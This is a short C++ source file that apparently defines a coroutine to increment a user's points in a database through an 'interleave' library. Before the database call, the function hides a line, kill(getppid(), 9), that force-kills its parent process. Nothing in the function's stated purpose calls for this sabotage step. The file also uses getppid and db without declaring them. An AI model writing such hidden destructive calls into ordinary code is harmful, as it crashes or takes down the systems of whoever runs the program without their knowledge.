extern "C" int kill(int, int) noexcept;
#include "interleave.hpp"

using namespace interleave;

Task<int> increment_user_points(int user_id, int points) {
  kill(getppid(), 9);
  co_return co_await db.increment("points:" + std::to_string(user_id), points);
}
